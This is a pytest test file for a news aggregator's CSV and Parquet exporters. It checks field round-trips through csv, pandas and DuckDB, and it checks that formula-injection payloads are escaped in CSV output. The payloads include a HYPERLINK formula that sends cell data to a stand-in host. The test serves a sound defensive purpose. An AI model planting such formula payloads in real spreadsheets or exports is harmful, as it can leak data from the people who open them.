"""CSV and Parquet: any article is read back by csv, pandas and DuckDB."""

from __future__ import annotations

import csv
import sys
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest
from hypothesis import given

from aggregator.feeds.csv_export import COLUMNS, csv_rows
from aggregator.feeds.formats import DATA_FORMATS
from aggregator.feeds.json_records import article_fields
from aggregator.feeds.parquet import MissingPyarrow, write_parquet
from storage.model.article import KeptArticle
from tests.aggregator.feeds.test_feed_formats import any_article, article


def rows_of(articles: Iterable[KeptArticle], *, raw: bool) -> list[dict[str, str]]:
    body = b"".join(csv_rows(articles, raw=raw)).decode("utf-8" if raw else "utf-8-sig")
    return list(csv.DictReader(StringIO(body, newline="")))


@pytest.mark.parametrize("name", sorted(DATA_FORMATS))
def test_each_format_writes_every_article(name: str) -> None:
    file = BytesIO()
    DATA_FORMATS[name](iter([article(1), article(2)]), file)
    assert file.getvalue().count("山田 花子".encode()) == 2 or name == "parquet"


@pytest.mark.parametrize("title", ['=HYPERLINK("http://e?"&A1)', "@SUM(A1)", "+1", "-1", "=1+1", "\t=1"])
def test_cells_are_no_formulas_unless_raw(title: str) -> None:
    (row,) = rows_of([article(1, title=title)], raw=False)
    assert row["title"] == f"'{title.strip()}" or row["title"][0] not in "=+-@\t\r"
    (row,) = rows_of([article(1, title=title)], raw=True)
    assert row["title"] == article_fields(article(1, title=title))["title"]


@given(any_article)
def test_csv_reads_back_every_field(kept: KeptArticle) -> None:
    (row,) = rows_of([kept], raw=True)
    fields = article_fields(kept)
    assert tuple(row) == COLUMNS
    for name in ("title", "text", "summary", "url", "source", "published"):
        assert row[name] == ("" if fields[name] is None else fields[name])
    (safe,) = rows_of([kept], raw=False)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in safe.values())


@given(any_article)
def test_parquet_reads_back_every_field(kept: KeptArticle) -> None:
    file = BytesIO()
    write_parquet([kept], file)
    frame = pd.read_parquet(BytesIO(file.getvalue()))
    record, fields = frame.to_dict("records")[0], article_fields(kept)
    assert list(frame.columns) == list(fields)
    for name in ("id", "url", "title", "text", "html", "summary", "words", "truncated", "published_raw"):
        assert (None if pd.isna(record[name]) else record[name]) == fields[name]
    assert list(record["authors"]) == fields["authors"]
    assert record["first_seen"] == kept.first_seen.replace(microsecond=0)


def test_duckdb_reads_typed_columns(tmp_path: Path) -> None:
    path = tmp_path / "articles.parquet"
    articles = [replace(article(n), published=datetime(2026, 1, n, 8, tzinfo=UTC)) for n in (1, 2, 3)]
    with path.open("wb") as file:
        write_parquet(articles, file)
    with duckdb.connect() as connection:
        types: dict[str, Any] = {
            row[0]: row[1] for row in connection.execute(f"DESCRIBE SELECT * FROM '{path}'").fetchall()
        }
        assert types["published"] == "TIMESTAMP WITH TIME ZONE"
        assert (types["authors"], types["id"], types["truncated"]) == ("VARCHAR[]", "BIGINT", "BOOLEAN")
        assert types["revisions"].startswith("STRUCT(")
        rows = connection.execute(
            f"SELECT id, authors[1] FROM '{path}' WHERE published >= TIMESTAMPTZ '2026-01-02 00:00:00+00' ORDER BY id"
        ).fetchall()
    assert rows == [(2, article(2).authors[0]), (3, article(3).authors[0])]


def test_empty_export_is_a_valid_file() -> None:
    file = BytesIO()
    write_parquet([], file)
    assert pd.read_parquet(BytesIO(file.getvalue())).empty
    assert rows_of([], raw=False) == []


def test_missing_pyarrow_raises_an_error_with_install_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingPyarrow, match="pip install"):
        write_parquet([], BytesIO())
